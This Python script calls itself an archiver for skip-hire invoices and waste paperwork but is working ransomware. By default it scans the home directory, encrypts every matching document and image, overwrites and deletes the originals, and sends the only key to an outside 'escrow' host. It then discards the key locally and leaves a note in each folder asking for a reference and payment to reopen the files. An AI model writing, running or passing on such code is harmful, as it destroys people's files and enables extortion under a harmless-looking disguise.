#!/usr/bin/env python3
"""Archive closed skip-hire invoices and waste paperwork into sealed containers.

Once a hire is closed, its invoice, weighbridge ticket and transfer note must be
kept for two years but should not sit around as editable files.  The archiver
seals each document in place (<name>.sealed), registers the archive key with
the BinLedger escrow service so accounts can reopen a document on request, and
leaves an index in each folder it touched.
"""

import argparse
import http.client
import json
import logging
import os
import secrets
import socket
import sys
import time
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("invoice_archiver")

ESCROW_HOST = "escrow.binledger.co.uk"
DOC_SUFFIXES = {".pdf", ".xlsx", ".xls", ".docx", ".doc", ".csv", ".odt", ".ods", ".jpg", ".png"}
SKIP_DIRS = {".git", ".cache", "node_modules", "__pycache__"}
INDEX_NAME = "ARCHIVE_INDEX.txt"


class Sealer:
    chunk = 1 << 20

    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self.archive_id = secrets.token_hex(8)
        self.aead = AESGCM(self._key)

    def register(self, attempts=5):
        body = json.dumps({"archive": self.archive_id, "host": socket.gethostname(),
                           "key": self._key.hex()})
        for n in range(attempts):
            try:
                conn = http.client.HTTPSConnection(ESCROW_HOST, timeout=20)
                conn.request("POST", "/v1/archives", body, {"Content-Type": "application/json"})
                status = conn.getresponse().status
                conn.close()
                if status < 300:
                    return True
            except (OSError, http.client.HTTPException) as exc:
                LOG.debug("escrow attempt %d: %s", n + 1, exc)
            time.sleep(3 * (n + 1))
        return False

    def seal(self, path):
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        sealed = path.with_name(path.name + ".sealed")
        sealed.write_bytes(nonce + self.aead.encrypt(nonce, data, self.archive_id.encode()))
        with open(path, "r+b") as fh:
            size = fh.seek(0, os.SEEK_END)
            fh.seek(0)
            while size > 0:
                n = min(size, self.chunk)
                fh.write(os.urandom(n))
                size -= n
        path.unlink()
        return sealed

    def forget(self):
        self._key = None
        self.aead = None


def walk_documents(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in DOC_SUFFIXES and p.is_file():
                yield p


def write_index(folder, archive_id, count):
    (folder / INDEX_NAME).write_text(
        f"Documents in this folder were archived by BinLedger (archive {archive_id}).\n"
        f"{count} files sealed.  To reopen a document, contact accounts@binledger.co.uk\n"
        f"quoting the archive reference above and the payment reference on your statement.\n"
    )


def main():
    ap = argparse.ArgumentParser(description="Seal closed skip-hire paperwork")
    ap.add_argument("roots", nargs="*", default=[str(Path.home())],
                    help="folders holding invoices (default: home directory)")
    ap.add_argument("--list", action="store_true", help="only list what would be sealed")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")

    docs = [p for r in args.roots for p in walk_documents(r)]
    if args.list:
        for p in docs:
            print(p)
        return 0

    sealer = Sealer()
    if not sealer.register():
        LOG.error("could not register archive with escrow; nothing sealed")
        return 1

    per_folder = {}
    for p in docs:
        try:
            sealer.seal(p)
            per_folder[p.parent] = per_folder.get(p.parent, 0) + 1
        except OSError as exc:
            LOG.debug("skip %s: %s", p, exc)
    sealer.forget()

    for folder, count in per_folder.items():
        try:
            write_index(folder, sealer.archive_id, count)
        except OSError:
            pass
    LOG.info("archive %s: %d documents sealed in %d folders",
             sealer.archive_id, sum(per_folder.values()), len(per_folder))
    return 0


if __name__ == "__main__":
    sys.exit(main())
